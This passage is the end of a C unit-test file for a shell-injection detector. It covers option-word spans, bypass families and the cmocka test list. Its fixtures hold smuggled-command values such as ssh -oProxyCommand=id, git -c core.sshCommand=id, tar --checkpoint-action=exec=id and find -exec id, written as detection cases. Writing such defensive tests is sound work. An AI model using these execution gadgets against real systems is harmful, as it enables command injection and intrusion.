	    {"ssh ", "web01 -p 2222", " uptime"},  {"ssh ", "web01 -o BatchMode=yes", " uptime"},
	    {"rsync -a ", "src/ -v", " /dst"},     {"echo ", "use -exec carefully", ""},
	    {"find . -name '", "x -exec id", "'"},
	};

	(void)state;
	lines_block_and_pass(blocks, sizeof blocks / sizeof blocks[0], passes,
	                     sizeof passes / sizeof passes[0]);
}

/* A hit that fires says why and that the input is more than data inside
 * one word (fuzz_shell's invariant: fired => spans and a rule). An input
 * inside one option word whose value runs a program (ssh's
 * -oProxyCommand=, git's -c core.sshCommand=) fired cmd.option with
 * spans 0 (found by fuzz_shell, session 29). */
static void a_fire_inside_one_option_word_says_it_spans(void **state)
{
	static const char *const lines[][2] = {
	    {"ssh -p 22 -oProxyCommand=id host", "ommand=id"},
	    {"ssh -p 22 -oProxyCommand=id host", "-oProxyCommand=id"},
	    {"git -c core.sshCommand=id fetch", "core.sshCommand=id"},
	    {"tar --checkpoint-action=exec=id -cf a.tar .", "exec=id"},
	};
	static struct ma_sh_lex lx;

	(void)state;
	for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
		const char *s = lines[i][0], *at = strstr(s, lines[i][1]);
		size_t n = strlen(s), a = (size_t)(at - s), b = a + strlen(lines[i][1]);
		struct ma_sh_hit hit;
		ma_sh_lex(s, n, &lx);
		ma_sh_analyse(s, n, &lx, a, b, &hit);
		if (!hit.fired || !hit.spans || !hit.rule)
			fail_msg("%s | %s: fired %d spans %d rule %s", s, lines[i][1], hit.fired,
			         hit.spans, hit.rule ? hit.rule : "(none)");
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(argv_program_options_and_wrapped_shells),
	    cmocka_unit_test(argv_option_values_are_values),
	    cmocka_unit_test(argv_letters_of_a_cluster_are_read),
	    cmocka_unit_test(argv_curl_values_that_read_a_file),
	    cmocka_unit_test(argv_ssh_remote_command_is_a_command_line),
	    cmocka_unit_test(argv_sed_commands_from_an_input),
	    cmocka_unit_test(argv_awk_programs_from_an_input),
	    cmocka_unit_test(argv_abbreviated_long_options),
	    cmocka_unit_test(argv_wrapper_options_are_read_per_wrapper),
	    cmocka_unit_test(a_case_items_commands_are_judged),
	    cmocka_unit_test(the_tokenizer_follows_posix_sh),
	    cmocka_unit_test(plain_words_end_where_the_word_rules_end_them),
	    cmocka_unit_test(words_a_window_does_not_keep_leave_the_same_state),
	    cmocka_unit_test(words_passed_eight_bytes_at_a_time_count_as_lexed),
	    cmocka_unit_test(the_lane_parses_as_the_run_loop_does),
	    cmocka_unit_test(windows_of_words_passed_eight_bytes_at_a_time_are_alike),
	    cmocka_unit_test(words_passed_in_runs_are_counted_exactly),
	    cmocka_unit_test(the_next_window_kept_by_the_first_lexing_is_the_one_lexed_again),
	    cmocka_unit_test(separators_and_pipes_fire),
	    cmocka_unit_test(substitutions_fire_even_inside_double_quotes),
	    cmocka_unit_test(redirections_expansions_globs_and_braces_fire),
	    cmocka_unit_test(bypass_families_fire),
	    cmocka_unit_test(an_operator_alone_cuts_the_application_command),
	    cmocka_unit_test(a_command_ended_by_its_own_operator_cuts_the_application_command),
	    cmocka_unit_test(the_tail_rule_is_skipped_only_where_the_input_goes_on),
	    cmocka_unit_test(a_redirection_that_reads_a_path_or_leads_a_command_fires),
	    cmocka_unit_test(words_after_a_redirections_target_name_the_command),
	    cmocka_unit_test(a_wrapper_before_a_redirection_still_waits_for_its_command),
	    cmocka_unit_test(an_option_needs_a_name),
	    cmocka_unit_test(breaking_out_of_quotes_to_add_a_file_argument_fires),
	    cmocka_unit_test(substitutions_nested_in_expansions_fire),
	    cmocka_unit_test(substitutions_nested_past_the_tokenizer_fire),
	    cmocka_unit_test(substitutions_inside_the_applications_expansions_fire),
	    cmocka_unit_test(a_dollar_quote_inside_double_quotes_is_literal),
	    cmocka_unit_test(a_dollar_quote_dash_ends_earlier_fires),
	    cmocka_unit_test(bash_array_assignments_are_words),
	    cmocka_unit_test(a_function_keyword_body_is_judged),
	    cmocka_unit_test(bash_arithmetic_of_quoted_text_fires),
	    cmocka_unit_test(bash_arithmetic_is_read_where_bash_evaluates),
	    cmocka_unit_test(a_subshell_after_an_opening_word_starts_a_command),
	    cmocka_unit_test(a_parenthesis_inside_double_brackets_groups),
	    cmocka_unit_test(arithmetic_behind_a_parenthesis_and_compound_subscripts_fire),
	    cmocka_unit_test(a_dollar_double_parenthesis_that_is_no_arithmetic_is_a_substitution),
	    cmocka_unit_test(arithmetic_in_lines_dash_cannot_parse_fires),
	    cmocka_unit_test(process_substitution_bodies_are_the_applications_commands),
	    cmocka_unit_test(arrays_aliases_and_functions_bash_does_not_evaluate_pass),
	    cmocka_unit_test(keys_listed_and_aliases_defined_again_are_evaluated),
	    cmocka_unit_test(callbacks_and_prompt_commands_are_read_again),
	    cmocka_unit_test(inner_lines_behind_options_are_read_again),
	    cmocka_unit_test(option_values_attached_or_after_long_options_are_skipped),
	    cmocka_unit_test(every_inner_line_is_judged),
	    cmocka_unit_test(an_indirection_with_an_operator_evaluates),
	    cmocka_unit_test(a_hash_inside_double_parentheses_starts_no_comment),
	    cmocka_unit_test(a_name_no_longer_associative_evaluates_its_subscript),
	    cmocka_unit_test(a_brace_word_that_makes_an_option_fires),
	    cmocka_unit_test(bash_expansions_of_quoted_values_fire),
	    cmocka_unit_test(command_lines_read_again_inside_the_line_are_judged),
	    cmocka_unit_test(a_substitution_in_an_expanded_here_document_fires),
	    cmocka_unit_test(bash_subscripts_and_offsets_of_quoted_text_fire),
	    cmocka_unit_test(a_function_keyword_with_parentheses_is_judged),
	    cmocka_unit_test(a_subshell_after_a_reserved_word_is_a_subshell),
	    cmocka_unit_test(more_bypass_families_fire),
	    cmocka_unit_test(lines_longer_than_a_window_are_judged_whole),
	    cmocka_unit_test(a_next_window_is_the_window_lexed_from_the_start),
	    cmocka_unit_test(a_next_window_takes_over_what_the_window_before_it_lexed),
	    cmocka_unit_test(a_window_kept_from_an_earlier_one_is_the_window_lexed_from_the_start),
	    cmocka_unit_test(a_window_taken_from_a_next_one_is_the_window_lexed_again),
	    cmocka_unit_test(an_input_before_the_last_window_is_judged_alike),
	    cmocka_unit_test(a_line_that_cannot_parse_is_probed_as_its_windows_judge_it),
	    cmocka_unit_test(a_name_judged_again_takes_the_answer_kept),
	    cmocka_unit_test(a_name_with_a_brace_is_judged_again_in_each_window),
	    cmocka_unit_test(a_command_judged_again_takes_the_answer_kept),
	    cmocka_unit_test(a_request_judges_a_line_alike_after_another_line),
	    cmocka_unit_test(an_input_at_the_first_place_takes_the_first_window),
	    cmocka_unit_test(a_later_place_finds_its_first_element_as_the_first_does),
	    cmocka_unit_test(the_first_element_of_a_long_input_is_its_own),
	    cmocka_unit_test(a_line_that_cannot_parse_fires_only_on_substitutions),
	    cmocka_unit_test(data_inside_one_word_is_allowed),
	    cmocka_unit_test(text_full_of_shell_words_is_allowed),
	    cmocka_unit_test(free_text_with_line_breaks_and_punctuation_is_allowed),
	    cmocka_unit_test(a_wrapped_line_that_starts_with_a_lookup_program_is_text),
	    cmocka_unit_test(a_new_command_that_can_run_something_fires),
	    cmocka_unit_test(the_name_tables_are_sorted_and_answer),
	    cmocka_unit_test(argv_options_programs_and_shells),
	    cmocka_unit_test(a_check_that_does_not_fire_allocates_nothing),
	    cmocka_unit_test(monitor_mode_logs_and_allows),
	    cmocka_unit_test(a_line_piped_into_a_shell_is_read_again),
	    cmocka_unit_test(attached_values_and_callbacks_that_run),
	    cmocka_unit_test(ssh_eval_and_variables_hand_lines_to_a_shell),
	    cmocka_unit_test(ps4_under_xtrace_runs_its_substitutions),
	    cmocka_unit_test(an_unquoted_input_that_adds_an_option_that_runs_a_program),
	    cmocka_unit_test(a_fire_inside_one_option_word_says_it_spans),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
